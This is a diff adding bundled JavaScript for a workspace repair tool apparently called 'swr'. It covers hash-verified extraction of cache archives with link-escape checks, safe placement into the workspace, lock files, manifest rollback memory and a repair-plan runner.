+        if (type === 'l' && m.linkname !== r.extra)
+            throw new Rejected(`${shown(at.rel)}: link target differs from the recorded one`);
+    }
+    /** Directories known to exist in scratch: one mkdir per directory, not one per member. */
+    made = new Set();
+    umask = currentUmask();
+    ensureParent(abs) {
+        const parent = external_node_path_default().dirname(abs);
+        if (this.made.has(parent))
+            return;
+        // Parents are created here, inside the private scratch directory, never followed links.
+        external_node_fs_default().mkdirSync(parent, { recursive: true, mode: 0o700 });
+        this.made.add(parent);
+    }
+    dir(at, m) {
+        this.ensureParent(at.abs);
+        external_node_fs_default().mkdirSync(at.abs, { mode: 0o700 });
+        this.made.add(at.abs);
+        this.dirModes.push([
+            at.abs,
+            at.rel === '' || !this.records ? m.mode : (this.records.get(at.rel)?.mode ?? m.mode)
+        ]);
+        return undefined;
+    }
+    symlink(at, m) {
+        if (this.want.kind === 'bounded' || this.want.kind === 'file') {
+            // Unindexed: a link may only point inside the entry (a link entry's own target is checked
+            // by the verifier on the scratch copy).
+            const isRoot = at.rel === '';
+            const resolved = external_node_path_default().posix.normalize(external_node_path_default().posix.join(external_node_path_default().posix.dirname(at.rel), m.linkname));
+            if (!isRoot &&
+                (m.linkname.startsWith('/') || resolved === '..' || resolved.startsWith('../')))
+                throw new Rejected(`link escapes the entry: ${shown(m.name)} -> ${shown(m.linkname)}`);
+        }
+        this.ensureParent(at.abs);
+        external_node_fs_default().symlinkSync(m.linkname, at.abs);
+        this.links.add(at.rel);
+        this.files++;
+        return undefined;
+    }
+    /** A hard link's target as a path inside the entry; one that leaves it is refused. */
+    linkTarget(m) {
+        try {
+            return this.relOf(m.linkname);
+        }
+        catch {
+            throw new Rejected(`hard link out of the entry: ${shown(m.name)} -> ${shown(m.linkname)}`);
+        }
+    }
+    hardlink(at, m) {
+        const target = this.linkTarget(m);
+        const sum = this.fileHashes.get(target);
+        if (sum === undefined)
+            throw new Rejected(`hard link to no extracted file: ${shown(m.name)} -> ${shown(m.linkname)}`);
+        const r = this.records?.get(at.rel);
+        if (this.records && r?.extra !== sum)
+            throw new Rejected(`${shown(at.rel)}: content differs from the recorded sha256`);
+        if (this.want.kind === 'file')
+            throw new Rejected('a hard link where one file is recorded');
+        this.ensureParent(at.abs);
+        // A copy, not a link: the placed tree shares no inode with anything.
+        external_node_fs_default().copyFileSync(external_node_path_default().join(this.dest, target), at.abs, (external_node_fs_default()).constants.COPYFILE_EXCL);
+        this.fileHashes.set(at.rel, sum);
+        this.files++;
+        return undefined;
+    }
+    file(at, m) {
+        this.ensureParent(at.abs);
+        const fd = external_node_fs_default().openSync(at.abs, (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW, m.mode & 0o777);
+        this.openFd = fd;
+        // open() applies the umask: fix the mode only when it took something away (rarely).
+        const fixMode = (m.mode & ~this.umask & 0o777) !== m.mode;
+        const want = this.want.kind === 'file' ? this.want.sha256 : this.records?.get(at.rel)?.extra;
+        const hash = (0,external_node_crypto_.createHash)('sha256');
+        this.files++;
+        return {
+            write: chunk => {
+                this.bytes += chunk.length;
+                hash.update(chunk);
+                let off = 0;
+                while (off < chunk.length)
+                    off += external_node_fs_default().writeSync(fd, chunk, off, chunk.length - off);
+            },
+            end: () => {
+                const sum = hash.digest('hex');
+                this.openFd = undefined;
+                try {
+                    if (fixMode)
+                        external_node_fs_default().fchmodSync(fd, m.mode);
+                }
+                finally {
+                    external_node_fs_default().closeSync(fd);
+                }
+                if (this.want.kind !== 'bounded' && sum !== want)
+                    throw new Rejected(`${at.rel === '' ? 'the file' : shown(at.rel)}: content differs from the recorded sha256`);
+                this.fileHashes.set(at.rel, sum);
+            }
+        };
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/place.ts
+/**
+ * Moving a proven entry from scratch into the workspace: every parent between the workspace and
+ * the target must be a real directory (a link planted in the workspace is refused, not followed),
+ * missing parents are created one by one, and the old target is renamed aside before the new one
+ * is renamed in, so a failure puts the old one back and a success removes it.
+ */
+
+
+
+
+
+/** Create or check each parent of `target` below `workspace`; none may be a link. */
+function safeParents(workspace, target) {
+    const rel = external_node_path_default().relative(workspace, external_node_path_default().dirname(target));
+    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
+        throw new Rejected(`the target is outside the workspace: ${shown(target)}`);
+    let at = workspace;
+    for (const part of rel === '' ? [] : rel.split((external_node_path_default()).sep)) {
+        at = external_node_path_default().join(at, part);
+        let st;
+        try {
+            st = external_node_fs_default().lstatSync(at);
+        }
+        catch (err) {
+            if (err.code !== 'ENOENT')
+                throw err;
+        }
+        if (!st)
+            external_node_fs_default().mkdirSync(at, { mode: 0o755 });
+        else if (st.isSymbolicLink())
+            throw new Rejected(`not placed: ${shown(external_node_path_default().relative(workspace, at))} is a symbolic link`);
+        else if (!st.isDirectory())
+            throw new Rejected(`not placed: ${shown(external_node_path_default().relative(workspace, at))} is not a directory`);
+    }
+}
+/** Same filesystem: rename. Else copy beside the target first (links kept as links), then rename. */
+function stageBeside(from, target) {
+    const staged = external_node_path_default().join(external_node_path_default().dirname(target), `.swr-new-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
+    try {
+        external_node_fs_default().renameSync(from, staged);
+    }
+    catch (err) {
+        if (err.code !== 'EXDEV')
+            throw err;
+        external_node_fs_default().cpSync(from, staged, { recursive: true, verbatimSymlinks: true, preserveTimestamps: true });
+    }
+    return staged;
+}
+/** Put `from` (in scratch) at `target` (in the workspace). */
+function place(workspace, from, target) {
+    safeParents(workspace, target);
+    const staged = stageBeside(from, target);
+    let aside;
+    try {
+        if (external_node_fs_default().existsSync(target) || isLink(target)) {
+            aside = external_node_path_default().join(external_node_path_default().dirname(target), `.swr-old-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
+            external_node_fs_default().renameSync(target, aside);
+        }
+        external_node_fs_default().renameSync(staged, target);
+    }
+    catch (err) {
+        if (aside && !external_node_fs_default().existsSync(target))
+            external_node_fs_default().renameSync(aside, target);
+        external_node_fs_default().rmSync(staged, { recursive: true, force: true });
+        throw err;
+    }
+    if (aside)
+        external_node_fs_default().rmSync(aside, { recursive: true, force: true });
+}
+function isLink(p) {
+    try {
+        return external_node_fs_default().lstatSync(p).isSymbolicLink();
+    }
+    catch {
+        return false;
+    }
+}
+
+// EXTERNAL MODULE: external "node:stream"
+var external_node_stream_ = __nccwpck_require__(7075);
+;// CONCATENATED MODULE: ./src/core/restore/cache/unpack.ts
+/**
+ * Streaming one compressed cache archive through decompression into the tar reader, stopping the
+ * download as soon as the reader refuses a member or has read the end of the archive. zstd is
+ * decoded by Node's zlib where it has it (Node 22.15+/24, the Action's runtime), else by a `zstd`
+ * binary at a fixed system path (never one found through PATH, which a workspace can prepend to).
+ */
+
+
+
+
+
+
+const ZSTD_PATHS = ['/usr/bin/zstd', '/bin/zstd', '/usr/local/bin/zstd', '/opt/homebrew/bin/zstd'];
+function zstdBinary() {
+    return ZSTD_PATHS.find(p => {
+        try {
+            external_node_fs_default().accessSync(p, (external_node_fs_default()).constants.X_OK);
+            return true;
+        }
+        catch {
+            return false;
+        }
+    });
+}
+function decompressor(compression) {
+    if (compression === 'gzip')
+        return external_node_zlib_default().createGunzip();
+    const native = (external_node_zlib_default()).createZstdDecompress;
+    if (native)
+        return native();
+    const bin = zstdBinary();
+    if (!bin)
+        throw new Rejected('a zstd archive, and neither Node nor the system has zstd');
+    const child = (0,external_node_child_process_.spawn)(bin, ['-d', '-c', '-q'], { stdio: ['pipe', 'pipe', 'pipe'] });
+    let err = '';
+    child.stderr.on('data', (c) => (err = (err + c.toString('utf8')).slice(-400)));
+    const duplex = external_node_stream_.Duplex.from({ writable: child.stdin, readable: child.stdout });
+    child.on('close', code => {
+        if (code !== 0 && code !== null)
+            duplex.destroy(new Error(err.trim().split('\n').pop() || `zstd exited ${code}`));
+    });
+    child.stdin.on('error', () => undefined);
+    duplex.on('close', () => child.kill());
+    return duplex;
+}
+/**
+ * Feed `source` (compressed) to a tar reader driving `handlers`. Resolves when the archive ended
+ * cleanly; rejects with a Rejected naming why not. The source is destroyed either way.
+ */
+async function unpack(source, compression, handlers) {
+    const reader = new TarReader(handlers);
+    let dec;
+    let sourceError;
+    source.on('error', e => (sourceError = e));
+    try {
+        dec = decompressor(compression);
+        source.pipe(dec);
+        for await (const chunk of dec) {
+            reader.write(chunk);
+            if (reader.done)
+                break;
+        }
+        if (!reader.done) {
+            if (sourceError)
+                throw new Rejected(`download failed: ${sourceError.message}`);
+            reader.finish();
+        }
+    }
+    catch (err) {
+        if (err instanceof Rejected)
+            throw err;
+        if (sourceError)
+            throw new Rejected(`download failed: ${oneLine(sourceError)}`);
+        throw new Rejected(`truncated or corrupt archive (${oneLine(err)})`);
+    }
+    finally {
+        source.unpipe();
+        source.destroy();
+        dec?.destroy();
+    }
+}
+function oneLine(err) {
+    const text = err instanceof Error ? err.message : String(err);
+    return text.split('\n')[0]?.slice(0, 200) ?? '';
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/restore.ts
+/**
+ * One cache restore of one entry, end to end: a fresh private scratch directory, the archive
+ * streamed into it under the entry's signed expectations (extract.ts), the scratch copy proven
+ * (while extracting, or by the verifier when nothing per-file is recorded), and only then placed
+ * (place.ts). A refused archive leaves the workspace as it was and says why in one line.
+ */
+
+
+
+
+
+
+
+
+/** Trees recorded without an index (imported from format 2) have no byte count: this bounds them. */
+const LOOSE_TREE_MAX_BYTES = 16 * 1024 * 1024 * 1024;
+const LOOSE_TREE_MAX_MEMBERS = 2_000_000;
+function expectationOf(e, ctx) {
+    switch (e.kind) {
+        case 'file':
+            return {
+                kind: 'file',
+                size: e.expect.size,
+                sha256: e.expect.sha256,
+                mode: parseMode(e.expect.mode)
+            };
+        case 'blob':
+            return { kind: 'bounded', maxMembers: 1, maxBytes: e.expect.size, single: true };
+        case 'link':
+            return { kind: 'bounded', maxMembers: 1, maxBytes: 0, single: true };
+        case 'tree': {
+            const records = e.expect.index ? ctx.readIndex(e.id, e.expect.index) : undefined;
+            if (records)
+                return { kind: 'indexed', records, ignore: e.ignore };
+            const files = e.expect.max_files ?? e.expect.files;
+            return {
+                kind: 'bounded',
+                // Directories are members too: allow as many again, plus a margin.
+                maxMembers: files !== undefined ? files * 2 + 64 : LOOSE_TREE_MAX_MEMBERS,
+                maxBytes: LOOSE_TREE_MAX_BYTES,
+                single: false
+            };
+        }
+    }
+}
+const PROVEN = 'restored from the cache, every byte verified while extracting';
+/** A finding made by a verifying extraction (not by reading the placed entry again). */
+function isProven(f) {
+    return f?.status === 'OK' && f.detail.startsWith(PROVEN);
+}
+function provenFinding(e, files, bytes) {
+    return {
+        id: e.id,
+        kind: e.kind,
+        path: e.path,
+        tier: e.tier,
+        status: 'OK',
+        reason: 'ok',
+        detail: `${PROVEN} (${files} files, ${bytes} bytes)`,
+        recorded: {},
+        found: { files, bytes },
+        cached: false
+    };
+}
+/** Make a fresh 0700 scratch directory below `base`. */
+function makeScratch(base, name) {
+    external_node_fs_default().mkdirSync(base, { recursive: true });
+    const dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(base, `${name}-`));
+    external_node_fs_default().chmodSync(dir, 0o700);
+    return dir;
+}
+function reasonOf(err) {
+    if (err instanceof Rejected)
+        return err.message;
+    const e = err;
+    return `${e.code ?? 'error'}: ${(e.message ?? String(err)).split('\n')[0]}`;
+}
+async function restoreEntry(e, archive, ctx) {
+    const scratch = makeScratch(ctx.scratchBase, 'swr-restore');
+    try {
+        const root = external_node_path_default().join(scratch, 'w');
+        const dest = resolveEntryPath(root, e.path);
+        external_node_fs_default().mkdirSync(external_node_path_default().dirname(dest), { recursive: true, mode: 0o700 });
+        const extractor = new EntryExtractor(archive.prefix, dest, expectationOf(e, ctx));
+        try {
+            await unpack(await archive.open(), archive.compression, extractor);
+        }
+        finally {
+            extractor.abort();
+        }
+        const summary = extractor.finish();
+        let finding;
+        if (summary.proven)
+            finding = provenFinding(e, summary.files, summary.bytes);
+        else {
+            const f = await ctx.verifyAt(root, e);
+            if (f.status !== 'OK')
+                throw new Rejected(`${f.status}: ${f.detail}`);
+        }
+        place(ctx.workspace, dest, resolveEntryPath(ctx.workspace, e.path));
+        return { placed: true, finding, members: summary.members, bytes: summary.bytes };
+    }
+    catch (err) {
+        return { placed: false, reason: reasonOf(err) };
+    }
+    finally {
+        removeScratch(scratch);
+    }
+}
+/** Remove a scratch directory, even one holding directories restored without write permission. */
+function removeScratch(dir) {
+    try {
+        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    }
+    catch {
+        const open = (d) => {
+            external_node_fs_default().chmodSync(d, 0o700);
+            for (const ent of external_node_fs_default().readdirSync(d, { withFileTypes: true }))
+                if (ent.isDirectory())
+                    open(external_node_path_default().join(d, ent.name));
+        };
+        open(dir);
+        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/runner.ts
+/**
+ * Carrying out a repair plan: wave by wave (steps of a wave in parallel up to `jobs`), each step
+ * from its source (escrow, then recipe), each restored entry re-verified at once without the
+ * cache. A step whose dependency did not heal is SKIPPED, never attempted. The caller must have
+ * asked the gate first; this module refuses to run without an allowed decision.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+const DEFAULT_TIMEOUT_S = 1800;
+const DEFAULT_SHELL = ['bash', '-c'];
+async function runPlan(opts) {
+    if (!opts.gate.allowed)
+        throw new InternalError('runPlan called without an allowed gate decision');
+    const entries = new Map(opts.manifest.body.entries.map(e => [e.id, e]));
+    const results = new Map();
+    const limit = pLimit(Math.max(1, opts.jobs ?? 1));
+    for (const wave of opts.plan.waves) {
+        await Promise.all(wave.map(step => limit(async () => {
+            const entry = entries.get(step.id);
+            if (!entry)
+                throw new InternalError(`plan names unknown entry ${step.id}`);
+            const r = await runStep(step, entry, results, opts);
+            results.set(step.id, r);
+            opts.journal?.append({
+                id: r.id,
+                outcome: r.outcome,
+                at: (opts.now?.() ?? new Date()).toISOString()
+            });
+            opts.onStep?.(r);
+        })));
+    }
+    return planSteps(opts.plan).map(s => results.get(s.id));
+}
+/** Quarantine is evidence-keeping: failing to copy must not stop the repair, only be reported. */
+function safeQuarantine(entry, opts) {
+    if (!opts.quarantine)
+        return undefined;
+    try {
+        return quarantine(opts.manifest.workspace, opts.quarantine.stateDir, entry, opts.now?.() ?? new Date(), opts.quarantine);
+    }
+    catch (err) {
+        return {
+            skipped: `copy failed: ${err instanceof Error ? (err.code ?? err.message) : String(err)}`
+        };
+    }
+}
+/** Escrow first (local, no code), then the state saved for exactly these expectations, then the declared sources. */
+function sourcesFor(entry, cache) {
+    const out = entry.kind === 'file' && entry.escrow ? [{ kind: 'escrow' }] : [];
+    if (cache)
+        out.push({ kind: 'cache', key: stateKey(entry), restoreKeys: [], auto: true });
+    for (const src of restoreSources(entry)) {
+        out.push(typeof src === 'string'
+            ? { kind: 'recipe', command: src }
+            : {
+                kind: 'cache',
+                key: src.cache.key,
+                restoreKeys: src.cache['restore-keys'] ?? [],
+                auto: false
+            });
+    }
+    return out;
+}
+async function runStep(step, entry, done, opts) {
+    const base = { id: step.id, source: step.source };
+    if (opts.abort?.aborted)
+        return { ...base, outcome: 'interrupted', detail: 'not started: interrupted', attempts: [] };
+    const failedDep = step.after.find(d => {
+        const o = done.get(d)?.outcome;
+        return o !== 'repaired' && o !== 'already-repaired';
+    });
+    if (failedDep)
+        return { ...base, outcome: 'skipped', detail: `dependency failed: ${failedDep}`, attempts: [] };
+    if (opts.alreadyRepaired?.has(step.id)) {
+        const [after] = await opts.reverify([entry]);
+        if (after?.status === 'OK')
+            return {
+                ...base,
+                outcome: 'already-repaired',
+                detail: 'repaired by the interrupted run',
+                after,
+                attempts: []
+            };
+    }
+    const sources = sourcesFor(entry, opts.cache);
+    if (sources.length === 0)
+        return {
+            ...base,
+            outcome: 'unrepairable',
+            detail: 'no restore source (recipe, cache or escrow)',
+            attempts: []
+        };
+    const q = opts.quarantine ? safeQuarantine(entry, opts) : undefined;
+    const attempts = [];
+    let recipe;
+    let after;
+    let ranCleanly = false;
+    for (const src of sources) {
+        const tried = await trySource(src, entry, opts);
+        if (tried.recipe)
+            recipe = tried.recipe;
+        if (tried.attempt.outcome === 'interrupted') {
+            attempts.push(tried.attempt);
+            return {
+                ...base,
+                outcome: 'interrupted',
+                detail: tried.attempt.detail,
+                attempts,
+                ...(recipe ? { recipe } : {}),
+                ...(q ? { quarantine: q } : {})
+            };
+        }
+        if (tried.attempt.outcome === 'miss' ||
+            tried.attempt.outcome === 'failed' ||
+            tried.attempt.outcome === 'skipped' ||
+            tried.attempt.outcome === 'not-healed') {
+            // A refused cache archive never reached the workspace: nothing to re-verify.
+            attempts.push(tried.attempt);
+            continue;
+        }
+        // An archive proven byte by byte while it was extracted needs no second read.
+        ;
+        [after] = tried.proven ? [tried.proven] : await opts.reverify([entry]);
+        const healed = after?.status === 'OK';
+        ranCleanly ||= src.kind === 'recipe';
+        attempts.push({
+            ...tried.attempt,
+            outcome: healed ? 'healed' : 'not-healed',
+            ...(healed
+                ? {}
+                : {
+                    detail: `${tried.attempt.detail}, but still ${after?.status ?? 'damaged'}: ${after?.detail ?? ''}`
+                })
+        });
+        if (healed) {
+            return {
+                id: step.id,
+                source: src.kind,
+                outcome: 'repaired',
+                detail: tried.attempt.detail,
+                attempts,
+                ...(after ? { after } : {}),
+                ...(recipe ? { recipe } : {}),
+                ...(q ? { quarantine: q } : {})
+            };
+        }
+    }
+    const last = attempts[attempts.length - 1];
+    return {
+        ...base,
+        outcome: ranCleanly ? 'still-damaged' : 'failed',
+        detail: attempts.length > 1
+            ? attempts.map(a => `${a.source}: ${a.detail}`).join('; ')
+            : (last?.detail ?? ''),
+        attempts,
+        ...(after ? { after } : {}),
+        ...(recipe ? { recipe } : {}),
+        ...(q ? { quarantine: q } : {})
+    };
+}
+/** Scratch below RUNNER_TEMP (private to the job), else the system temp directory. */
+function defaultRestore(opts) {
+    return {
+        scratchBase: opts.callerEnv.RUNNER_TEMP || external_node_os_default().tmpdir(),
+        readIndex: (id, ref) => readIndex(indexPath(opts.manifest.file, id), ref),
+        verifyAt: async (root, e) => {
+            const [f] = await opts.reverifyAt(root, [e]);
+            if (!f)
+                throw new InternalError(`no finding for ${e.id}`);
+            return f;
+        }
+    };
+}
+async function trySource(src, entry, opts) {
+    const abs = resolveEntryPath(opts.manifest.workspace, entry.path);
+    switch (src.kind) {
+        case 'escrow':
+            if (entry.kind !== 'file')
+                return {
+                    attempt: { source: 'escrow', outcome: 'failed', detail: 'escrow on a non-file entry' }
+                };
+            try {
+                restoreFromEscrow(opts.manifest.workspace, entry);
+                return { attempt: { source: 'escrow', outcome: 'healed', detail: 'restored from escrow' } };
+            }
+            catch (err) {
+                if (!(err instanceof SwrError) && !(err instanceof Error && 'code' in err))
+                    throw err;
+                return {
+                    attempt: {
+                        source: 'escrow',
+                        outcome: 'failed',
+                        detail: err instanceof Error ? err.message : String(err)
+                    }
+                };
+            }
+        case 'cache': {
+            if (!opts.cache)
+                return {
+                    attempt: {
+                        source: 'cache',
+                        outcome: 'skipped',
+                        key: src.key,
+                        detail: `cache ${src.key} skipped: no Actions cache service here`
+                    }
+                };
+            const hit = await opts.cache.find(abs, src.key, src.restoreKeys);
+            if (!hit)
+                return {
+                    attempt: {
+                        source: 'cache',
+                        outcome: 'miss',
+                        key: src.key,
+                        detail: `cache miss for ${src.key}${src.auto ? ' (saved state)' : ''}`
+                    }
+                };
+            const how = `cache ${hit.exact ? 'exact hit' : `restore-keys prefix hit ${hit.matchedKey}`}${src.auto ? ' (saved state)' : ''}`;
+            const r = await restoreEntry(entry, hit, {
+                workspace: opts.manifest.workspace,
+                ...(opts.cacheRestore ?? defaultRestore(opts))
+            });
+            const base = {
+                source: 'cache',
+                key: src.key,
+                matchedKey: hit.matchedKey,
+                exact: hit.exact
+            };
+            if (!r.placed)
+                return {
+                    attempt: { ...base, outcome: 'not-healed', detail: `${how} rejected: ${r.reason}` }
+                };
+            return {
+                attempt: { ...base, outcome: 'healed', detail: how },
+                ...(r.finding ? { proven: r.finding } : {})
+            };
+        }
+        case 'recipe': {
+            const timeoutS = opts.timeoutS ?? entry.timeout_s ?? DEFAULT_TIMEOUT_S;
+            const secrets = (entry.secret_env ?? [])
+                .map(n => opts.callerEnv[n])
+                .filter((v) => v !== undefined);
+            const result = await runRecipe({
+                id: entry.id,
+                command: src.command,
+                shell: opts.manifest.body.shell ?? DEFAULT_SHELL,
+                cwd: opts.manifest.workspace,
+                env: minimalEnv(opts.callerEnv, [...(entry.env ?? []), ...(entry.secret_env ?? [])]),
+                timeoutMs: timeoutS * 1000
+            }, { abort: opts.abort, onLine: opts.onLine, scrub: makeScrubber(secrets) });
+            const { id: _id, ...recipe } = result;
+            const how = `recipe ${describeResult(result, timeoutS * 1000)}`;
+            if (result.interrupted)
+                return { recipe, attempt: { source: 'recipe', outcome: 'interrupted', detail: how } };
+            if (result.timedOut || result.exitCode !== 0)
+                return { recipe, attempt: { source: 'recipe', outcome: 'failed', detail: how } };
+            return { recipe, attempt: { source: 'recipe', outcome: 'healed', detail: how } };
+        }
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/proper-lockfile/index.js
+var proper_lockfile = __nccwpck_require__(3648);
+var proper_lockfile_default = /*#__PURE__*/__nccwpck_require__.n(proper_lockfile);
+;// CONCATENATED MODULE: ./src/core/state/lock.ts
+/**
+ * One exclusive lock per subject, in the private state directory: the manifest file (serialises
+ * doctor/restore and every manifest-editing command; taken before the manifest is read, so keyed
+ * by its path) and the workspace (so two manifests describing one directory never run recipes in
+ * it at once). A waiting run says so once and gives up after a bounded time.
+ *
+ * Staleness is decided by whether the holder lives, not by how recently it refreshed: a holder on
+ * this host whose process is alive (its pid answers signal 0 and its start time is the one it
+ * recorded, so a reused pid does not count) keeps the lock however long its event loop is busy.
+ * Only a lock without a readable holder note, or held from another host, falls back to the
+ * refresh time (`staleMs`). Losing the lock anyway (its file removed, as a wipe of the state
+ * directory does, or taken over) is reported through `onLost`, never thrown from a timer.
+ */
+
+
+
+
+// Loaded at start-up on purpose: the signal-exit handlers it installs must precede the CLI's own
+// SIGINT/SIGTERM handlers, or a signal re-raised by signal-exit ends swr before it can exit 130.
+
+
+
+
+/**
+ * One spelling per file: symlinked paths to the same manifest must take the same lock (and the
+ * same rollback memory). A file not created yet is spelled through its directory's real path.
+ */
+function canonicalPath(subject) {
+    const abs = external_node_path_default().resolve(subject);
+    try {
+        return external_node_fs_default().realpathSync(abs);
+    }
+    catch {
+        try {
+            return external_node_path_default().join(external_node_fs_default().realpathSync(external_node_path_default().dirname(abs)), external_node_path_default().basename(abs));
+        }
+        catch {
+            return abs;
+        }
+    }
+}
+const lock_sleep = (ms) => new Promise(r => setTimeout(r, ms));
+/** proper-lockfile's own mtime staleness is switched off (a day); this module decides instead. */
+const LIBRARY_STALE_MS = 24 * 3600 * 1000;
+const REFRESH_MS = 2000;
+async function lockWorkspace(opts) {
+    const dir = ensurePrivateDir(opts.stateDir, 'locks');
+    const key = (0,external_node_crypto_.createHash)('sha256').update(canonicalPath(opts.subject)).digest('hex').slice(0, 32);
+    const target = external_node_path_default().join(dir, key);
+    const lockDir = `${target}.lock`;
+    const info = external_node_path_default().join(dir, `${key}.holder`);
+    const deadline = Date.now() + opts.waitMs;
+    let warned = false;
+    for (;;) {
+        try {
+            const release = await proper_lockfile_default().lock(target, {
+                realpath: false,
+                lockfilePath: lockDir,
+                stale: LIBRARY_STALE_MS,
+                update: REFRESH_MS,
+                retries: 0,
+                // proper-lockfile overwrites the code with ECOMPROMISED; the message keeps the cause.
+                onCompromised: err => opts.onLost?.(err.message.includes('ENOENT')
+                    ? 'its file in the state directory was removed'
+                    : 'another process took it over')
+            });
+            try {
+                writeFileAtomic(info, holderNote(), { mode: 0o600 });
+            }
+            catch (err) {
+                await release().catch(() => undefined);
+                throw err;
+            }
+            // An interrupt ends swr with process.exit: proper-lockfile lets go of the lock on exit, and
+            // the note of who held it goes with it.
+            const dropInfo = () => external_node_fs_default().rmSync(info, { force: true });
+            process.once('exit', dropInfo);
+            return async () => {
+                process.removeListener('exit', dropInfo);
+                dropInfo();
+                await release().catch(() => undefined);
+            };
+        }
+        catch (err) {
+            if (err.code !== 'ELOCKED')
+                throw err;
+        }
+        if (takeOverIfStale(lockDir, info, opts.staleMs ?? 10_000))
+            continue;
+        if (opts.abort?.aborted)
+            throw new SwrError(`interrupted while waiting for the lock on ${opts.subject}`, errors_EXIT.INTERRUPTED);
+        if (Date.now() >= deadline) {
+            throw new SwrError(`${opts.subject} is locked by another swr run (${holder(info)}); gave up after ${Math.round(opts.waitMs / 1000)} s`, errors_EXIT.UNREPAIRABLE);
+        }
+        if (!warned) {
+            opts.onWait?.(holder(info));
+            warned = true;
+        }
+        await lock_sleep(150);
+    }
+}
+function holderNote() {
+    const start = startTime(process.pid);
+    return `pid ${process.pid} host ${external_node_os_default().hostname()}${start ? ` start ${start}` : ''} since ${new Date().toISOString()}\n`;
+}
+/** The kernel's start time of a process (clock ticks since boot), where /proc has it. */
+function startTime(pid) {
+    try {
+        const stat = external_node_fs_default().readFileSync(`/proc/${pid}/stat`, 'utf8');
+        // Fields after the command name (which may hold spaces and parentheses): state is the first,
+        // starttime (field 22) the twentieth.
+        return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Whether the process that wrote `note` runs on this host now (undefined: cannot tell). */
+function holderAlive(note) {
+    const m = /^pid (\d+) host (\S+)(?: start (\d+))?/.exec(note);
+    if (!m || m[2] !== external_node_os_default().hostname())
+        return undefined;
+    const pid = Number(m[1]);
+    try {
+        process.kill(pid, 0);
+    }
+    catch (err) {
+        // EPERM: alive, under another user.
+        if (err.code !== 'EPERM')
+            return false;
+    }
+    const recorded = m[3];
+    const now = recorded ? startTime(pid) : undefined;
+    return !(recorded && now && now !== recorded);
+}
+/**
+ * Remove a lock whose holder is gone; true when it did. The note is read twice, the second time
+ * just before the removal, so a lock taken over by a third run in between is left alone.
+ */
+function takeOverIfStale(lockDir, info, staleMs) {
+    const note = readNote(info);
+    const alive = note === undefined ? undefined : holderAlive(note);
+    if (alive === true)
+        return false;
+    if (alive === undefined) {
+        const st = external_node_fs_default().statSync(lockDir, { throwIfNoEntry: false });
+        if (!st)
+            return true;
+        if (Date.now() - st.mtimeMs < staleMs)
+            return false;
+    }
+    if (readNote(info) !== note)
+        return false;
+    try {
+        external_node_fs_default().rmdirSync(lockDir);
+    }
+    catch (err) {
+        if (err.code !== 'ENOENT')
+            return false;
+    }
+    return true;
+}
+function readNote(info) {
+    try {
+        return external_node_fs_default().readFileSync(info, 'utf8');
+    }
+    catch {
+        return undefined;
+    }
+}
+function holder(info) {
+    return readNote(info)?.trim() ?? 'holder unknown';
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/version-memory.ts
+/**
+ * Rollback memory: the highest manifest version this machine has accepted for a manifest, and its
+ * digest. An older version is a rollback; the same version with another digest is a fork. CI
+ * runners start empty, so there the floor comes from the caller (--min-version / an input).
+ *
+ * Memory is keyed by the manifest's identity, not by how its path was spelled: the real path
+ * (symlinks resolved, so `-m` through a link meets the same memory) and, when the signed scope
+ * names both repository and manifest path, that scope (so a second checkout of the repository
+ * shares it too). Recall takes the highest version under any of the keys; remember writes all of
+ * them. Files written under the older spelled-path key are still read (they are the real-path key
+ * whenever the path was spelled without a symlink).
+ */
+
+
+
+
+
+
+function keyFile(stateDir, identity) {
+    const key = (0,external_node_crypto_.createHash)('sha256').update(identity).digest('hex').slice(0, 32);
+    return external_node_path_default().join(stateDir, 'versions', `${key}.json`);
+}
+/** Every memory file that speaks for this manifest; the first is the real-path key. */
+function memoryFiles(stateDir, manifestFile, scope) {
+    const files = [keyFile(stateDir, canonicalPath(manifestFile))];
+    if (scope?.repository !== undefined && scope.manifest_path !== undefined)
+        files.push(keyFile(stateDir, `scope\0${scope.repository.toLowerCase()}\0${scope.manifest_path}`));
+    return files;
+}
+function readOne(file) {
+    try {
+        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
+        return Number.isSafeInteger(v.version) && /^[0-9a-f]{64}$/.test(v.digest) ? v : undefined;
+    }
+    catch {
+        return undefined;
+    }
+}
+function recall(stateDir, manifestFile, scope) {
+    // The spelled-path key is read too: memory written before keys were real paths.
+    const files = [
+        ...memoryFiles(stateDir, manifestFile, scope),
+        keyFile(stateDir, external_node_path_default().resolve(manifestFile))
+    ];
+    let best;
+    for (const f of new Set(files)) {
+        const v = readOne(f);
+        if (v && (!best || v.version > best.version))
+            best = v;
+    }
+    return best;
+}
+/** Remember an accepted manifest under each of its keys; never lowers what is remembered. */
+function remember(stateDir, manifestFile, r, scope) {
+    const old = recall(stateDir, manifestFile, scope);
+    if (old && old.version > r.version)
+        return;
+    try {
+        ensurePrivateDir(stateDir, 'versions');
+        for (const f of memoryFiles(stateDir, manifestFile, scope))
+            writeFileAtomic(f, JSON.stringify(r) + '\n', { mode: 0o600 });
+    }
+    catch {
+        // Memory is a second line of defence; failing to write it must not fail the run.
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/state/journal.ts
+/**
+ * The restore journal: an append-only record of what an interrupted restore already repaired, so
+ * `--resume` can continue. One JSON line per event, each appended with a single write and fsynced.
+ * A journal written for another manifest digest or workspace is ignored.
+ */
+
+
+
+
+
+function journalPath(stateDir, workspace) {
+    const key = (0,external_node_crypto_.createHash)('sha256').update(external_node_path_default().resolve(workspace)).digest('hex').slice(0, 32);
